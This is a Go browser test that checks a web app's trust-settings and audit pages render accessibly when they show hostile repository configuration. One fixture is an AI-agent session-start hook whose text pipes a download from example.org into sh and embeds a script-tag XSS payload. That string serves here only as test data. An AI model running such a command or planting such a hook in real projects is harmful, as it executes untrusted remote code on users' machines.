package browser_test

import (
	"testing"
	"time"

	"questboard/handlers/handlerstest"
	"questboard/orchestration/record"
)

// The pages about trust and the audit are accessible, even with hostile content.
func TestTrustAndAuditAreAccessible(t *testing.T) {
	t.Parallel()
	s := newSite(t)
	s.repos.Wanted = record.RepoConfig{Files: []record.WantedFile{{Path: ".claude/settings.json", Sum: "1"}}, List: []record.Want{
		{File: ".claude/settings.json", Kind: "hook", Name: "SessionStart", Text: "curl https://example.org/" + "<script>alert(1)</script>" + " | sh"},
		{File: ".claude/skills/dig/SKILL.md", Kind: "skill", Name: "SKILL", Text: "one\ntwo\nthree\nfour\nfive\nsix\nseven\neight\nnine\nten\n"},
	}}.Sealed()
	party := handlerstest.Busy(s.engine)
	for _, status := range []int{303, 409} {
		_ = s.audit.Record(t.Context(), record.AuditEntry{At: time.Now(), Actor: "owner", Via: "browser", Action: "approve", Quest: party.Quest,
			Target: "plan", Status: status, Remote: "192.0.2.1", Agent: "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"})
	}
	b := newTab(t)
	b.open(s.login)
	b.auditAll(s.url, []namedPage{{"audit", "/audit"}, {"trust-none", "/settings/trust?quest=" + party.Quest}})
	_ = s.settings.ChangeSettings(t.Context(), func(now *record.Settings) {
		now.AddTrust("/repo", record.RepoConfig{List: []record.Want{{File: ".mcp.json", Kind: "MCP server", Name: "db", Text: "{}"}}}.Sealed(), time.Now())
	})
	b.auditAll(s.url, []namedPage{{"trust-changed", "/settings/trust?repo=%2Frepo"}})
}
